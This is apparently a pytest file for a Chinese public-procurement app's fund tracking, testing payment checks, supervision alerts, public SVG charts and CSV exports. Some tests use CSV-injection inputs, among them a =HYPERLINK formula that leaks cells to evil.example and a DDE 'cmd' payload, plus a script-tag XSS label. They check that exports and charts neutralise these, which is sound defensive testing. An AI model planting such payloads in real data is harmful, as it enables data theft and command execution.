"""Fund usage: payments checked (amount, currency, date, contract, overpayment, payee), recorded, logged and
alerted; the public project and summary pages with their SVG charts and CSV; the charts as pure code."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import func, select

from notices.models import Notice
from tests.demo_snapshot import seeded_demo
from trading.accounts.models import TradingCentre
from trading.demo.data import PASSWORDS
from trading.funds import charts
from trading.funds.models import Payment, SupervisionAlert
from trading.log.models import LogEntry
from trading.projects.models import Project

TODAY = datetime(2026, 11, 21, 3, tzinfo=UTC)
SVG = "{http://www.w3.org/2000/svg}"


async def _token(client, username: str, role: str) -> dict[str, str]:
    r = await client.post("/api/tokens", json={"username": username, "password": PASSWORDS[role], "label": "t"})
    assert r.status_code == 201, r.text
    return {"Authorization": f"Bearer {r.json()['token']}"}


async def _works_under_contract(app, client):
    """A demo works project with a published contract, and tokens for its centre's staff and supervisor."""
    async with app.state.sessionmaker() as s:
        ids = select(Notice.project_id).where(Notice.kind == "contract")
        project = await s.scalar(
            select(Project).where(Project.id.in_(ids), Project.trade_kind == "works").order_by(Project.id)
        )
        centre = await s.get(TradingCentre, project.centre_id)
        other = await s.scalar(select(TradingCentre).where(TradingCentre.id != centre.id).order_by(TradingCentre.id))
    code = centre.code.lower()
    return (
        project,
        await _token(client, f"{code}_staff1", "staff"),
        await _token(client, f"{code}_supervisor", "supervisor"),
        await _token(client, f"{other.code.lower()}_staff1", "staff"),
    )


def _payment(**overrides):
    body = {
        "kind": "payment",
        "paid_on": "2026-11-20",
        "amount_fen": 1_000_000,
        "currency": "CNY",
        "payer": "建设单位",
        "payee": "",
        "purpose": "进度款",
        "milestone": "路基完成",
        "evidence_sha256": hashlib.sha256(b"voucher").hexdigest(),
    }
    return body | overrides


async def _counts(app) -> tuple[int, int, int]:
    async with app.state.sessionmaker() as s:
        return (
            await s.scalar(select(func.count()).select_from(Payment)),
            await s.scalar(select(func.count()).select_from(SupervisionAlert)),
            await s.scalar(select(func.count()).select_from(LogEntry)),
        )


@pytest.mark.asyncio
async def test_payments_are_checked_recorded_logged_and_alerted(app, client, clock, settings):
    clock.set(TODAY)
    await seeded_demo(app, settings, clock)
    project, staff, supervisor, other_staff = await _works_under_contract(app, client)
    funds = (await client.get(f"/api/projects/{project.id}/funds")).json()
    contract = funds["contracts"][-1]
    assert funds["payments"], "the demo pays its contracts"
    url = f"/api/projects/{project.id}/payments"
    ok = _payment(payee=contract["contractor"], contract_notice_id=contract["notice_id"])
    if len(funds["contracts"]) > 1:  # several sections, several contracts: which one must be said
        r = await client.post(url, headers=staff, json=ok | {"contract_notice_id": None})
        assert r.status_code == 400 and r.json()["error"]["code"] == "which_contract"
    before = await _counts(app)
    for body, status, code in [
        (ok | {"amount_fen": 0}, 400, None),
        (ok | {"amount_fen": -5}, 400, None),
        (ok | {"currency": "USD"}, 400, "bad_currency"),
        (ok | {"paid_on": "2026-12-25"}, 400, "future_payment"),
        (ok | {"paid_on": "0001-01-01"}, 400, "date_out_of_range"),
        (ok | {"paid_on": "1900-05-04"}, 400, "date_out_of_range"),
        (ok | {"amount_fen": "100"}, 400, "invalid_input"),  # a number sent as a string
        (ok | {"amount_fen": 2**64}, 400, "number_out_of_range"),
        (ok | {"evidence_sha256": "not-a-hash"}, 400, None),
        (ok | {"amount_fen": contract["amount_fen"]}, 422, "over_contract"),  # past the contract, no reason
    ]:
        r = await client.post(url, headers=staff, json=body)
        assert r.status_code == status, (body, r.text)
        if code:
            assert r.json()["error"]["code"] == code
    r = await client.post(url, headers=other_staff, json=ok)
    assert r.status_code == 403 and r.json()["error"]["code"] == "other_centre"
    assert await _counts(app) == before  # nothing stored, nothing logged, no alert

    # Texts typed by staff that a spreadsheet would run (=HYPERLINK leaking the sheet, DDE): see the CSV below.
    typed = {"payer": '=HYPERLINK("http://evil.example/?"&A2,"核对")', "purpose": "＝cmd|' /C calc'!A0",
             "milestone": "\t@SUM(1,1)"}  # fmt: skip
    r = await client.post(url, headers=staff, json=ok | typed)
    assert r.status_code == 201 and r.json()["flags"] == [], r.text
    assert r.json()["payer"] == typed["payer"]  # stored and shown as typed
    odd = await client.post(url, headers=staff, json=ok | {"payee": "某某劳务有限公司"})
    assert odd.json()["flags"] == ["payee_not_contractor"]
    paid_here = sum(
        p["amount_fen"]
        for p in (await client.get(f"/api/projects/{project.id}/funds")).json()["payments"]
        if p["contract_notice_id"] == contract["notice_id"]
    )
    remaining = contract["amount_fen"] - paid_here
    over = await client.post(
        url,
        headers=staff,
        json=ok | {"amount_fen": remaining + 100, "over_contract_reason": "经批准的设计变更增加工程量"},
    )
    assert over.status_code == 201 and "over_contract" in over.json()["flags"]
    funds = (await client.get(f"/api/projects/{project.id}/funds")).json()
    under = [p for p in funds["payments"] if p["contract_notice_id"] == contract["notice_id"]]
    assert sum(p["amount_fen"] for p in under) == contract["amount_fen"] + 100

    alerts = (await client.get("/api/supervision/alerts", headers=supervisor)).json()
    mine = [
        a for a in alerts if a["project_id"] == project.id and a["subject_id"] in (odd.json()["id"], over.json()["id"])
    ]
    assert {a["kind"] for a in mine} == {"payee_not_contractor", "over_contract"}
    r = await client.post(f"/api/supervision/alerts/{mine[0]['id']}/acknowledge", headers=supervisor)
    assert r.status_code == 200 and r.json()["acknowledged_at"]
    assert (await client.get("/api/supervision/alerts", headers=staff)).status_code == 403
    async with app.state.sessionmaker() as s:
        logged = await s.scalar(select(LogEntry).where(LogEntry.event_key == f"payment:{over.json()['id']}"))
    entry = json.loads(logged.data)
    assert entry["amount_fen"] == remaining + 100 and entry["flags"] == ["over_contract"]

    # The public sees it all: the page, its chart (one point per payment), the CSV.
    page = await client.get(f"/projects/{project.id}/funds")
    assert (
        page.status_code == 200
        and "支付明细" in page.text
        and "timeline.svg" in page.text
        and "非合同乙方" in page.text
    )
    svg = await client.get(f"/projects/{project.id}/funds/timeline.svg")
    assert svg.headers["content-type"].startswith("image/svg+xml")
    tree = ET.fromstring(svg.text)
    assert len(tree.findall(f"{SVG}circle")) == len(funds["payments"])
    assert tree.find(f"{SVG}line[@class='contract-line']") is not None
    rows = list(
        csv.reader(io.StringIO((await client.get(f"/api/projects/{project.id}/payments.csv")).text.lstrip("\ufeff")))
    )
    assert len(rows) == len(funds["payments"]) + 1 and rows[-1][2] == f"{(remaining + 100) / 100:.2f}"
    # In the CSV anyone downloads, as text a spreadsheet shows and never runs; the amount still a number.
    (row,) = [row for row in rows if row[3] == "'" + typed["payer"]]
    assert row[2] == "10000.00" and (row[5], row[6]) == ("'" + typed["purpose"], "'" + typed["milestone"])


@pytest.mark.asyncio
async def test_payments_need_a_published_contract(app, client, clock, settings):
    clock.set(TODAY)
    await seeded_demo(app, settings, clock)
    async with app.state.sessionmaker() as s:
        project = await s.scalar(
            select(Project)
            .where(~Project.id.in_(select(Notice.project_id).where(Notice.kind.in_(("contract", "result")))))
            .order_by(Project.id)
        )
        centre = await s.get(TradingCentre, project.centre_id)
    staff = await _token(client, f"{centre.code.lower()}_staff1", "staff")
    r = await client.post(f"/api/projects/{project.id}/payments", headers=staff, json=_payment(payee="某公司"))
    assert r.status_code == 422 and r.json()["error"]["code"] in ("no_contract", "no_result")


@pytest.mark.asyncio
async def test_the_summary_adds_up_and_draws_its_charts(app, client, clock, settings):
    clock.set(TODAY)
    await seeded_demo(app, settings, clock)
    summary = (await client.get("/api/funds/summary")).json()
    totals = summary["totals"]
    async with app.state.sessionmaker() as s:
        # Published projects only: the demo's drafts are nobody's business but their centre's.
        published = await s.scalar(select(func.count()).select_from(Project).where(Project.state != "draft"))
        assert totals["projects"] == published < await s.scalar(select(func.count()).select_from(Project))
    assert totals["paid_fen"] > 0
    for key in ("funding_fen", "contracted_fen", "paid_fen", "collected_fen"):
        assert sum(r[key] for r in summary["by_trade_kind"]) == totals[key]
    # Land and property bring money in: their rows show what was collected, not zeros of funds spent.
    land = next(r for r in summary["by_trade_kind"] if r["key"] == "land")
    assert not land["spends"] and land["collected_fen"] > 0 and land["paid_fen"] == 0
    whole = (await client.get("/funds")).text
    assert "已收缴" in whole and "不适用" in whole
    assert abs(sum(r["paid_fen"] for r in summary["by_funding_source"]) - totals["paid_fen"]) <= len(
        summary["by_funding_source"]
    )
    changde = (await client.get("/api/funds/summary", params={"region": "430700", "year": 2026})).json()
    assert 0 < changde["totals"]["projects"] < totals["projects"]
    page = await client.get("/funds", params={"region": "430700"})
    assert page.status_code == 200 and "/funds/charts/by-kind.svg?region=430700" in page.text
    assert "/funds/charts/collected-by-kind.svg?region=430700" in page.text
    for chart in ("by-kind", "by-source", "paid-by-source", "collected-by-kind"):
        r = await client.get(f"/funds/charts/{chart}.svg")
        assert r.status_code == 200 and ET.fromstring(r.text).tag == f"{SVG}svg"
    # A chart of project funds has no bar for land (which spends none); land's money is on the collected one.
    by_kind = (await client.get("/funds/charts/by-kind.svg")).text
    collected = (await client.get("/funds/charts/collected-by-kind.svg")).text
    land_name = land["name_zh"]
    assert land_name not in by_kind and land_name in collected and ">0.00 万元<" not in collected
    assert (await client.get("/funds/charts/nothing.svg")).status_code == 404
    assert (await client.get("/api/funds/summary", params={"region": "110000"})).status_code == 400
    table = list(csv.reader(io.StringIO((await client.get("/api/funds/summary.csv")).text.lstrip("\ufeff"))))
    assert table[0][0].startswith("分组") and len(table) == 1 + len(summary["by_trade_kind"]) + len(
        summary["by_funding_source"]
    )


def test_charts_escape_their_labels_and_draw_nothing_without_data():
    svg = charts.bar_chart([("<script>alert(1)</script>", 100), ("财政资金", 300)], title="A & B")
    root = ET.fromstring(svg)  # well-formed: the label was escaped
    assert "<script>" not in svg and len(root.findall(f"{SVG}rect")) == 2
    widths = [int(r.get("width")) for r in root.findall(f"{SVG}rect")]
    assert widths[1] > widths[0] * 2.9
    assert "暂无数据" in charts.bar_chart([], title="空")
    empty = ET.fromstring(
        charts.timeline_chart([], contract_fen=None, start=date(2026, 1, 1), end=date(2026, 2, 1), title="t")
    )
    assert empty.findall(f"{SVG}circle") == []


def test_a_chart_stays_well_formed_whatever_characters_its_text_holds():
    """A project named before the input checks refused control characters must not break its chart."""
    title = "控制\x0b字符\x1b工程\ufffe"
    for svg in (
        charts.bar_chart([("资金\x01来源", 100)], title=title),
        charts.timeline_chart([(date(2026, 1, 5), 100)], contract_fen=200, start=date(2026, 1, 1),
                              end=date(2026, 2, 1), title=title),
    ):  # fmt: skip
        root = ET.fromstring(svg)
        assert "控制\ufffd字符\ufffd工程\ufffd" in (root.findtext(f"{SVG}title") or "")


def test_a_spreadsheet_cell_keeps_numbers_and_plain_text():
    from trading.funds.controllers import spreadsheet_cell

    assert [spreadsheet_cell(v) for v in ("-12.50", "12", 7, "进度款", "", "a=b", "-", "+86 731")] == [
        "-12.50", "12", 7, "进度款", "", "a=b", "'-", "'+86 731"
    ]  # fmt: skip
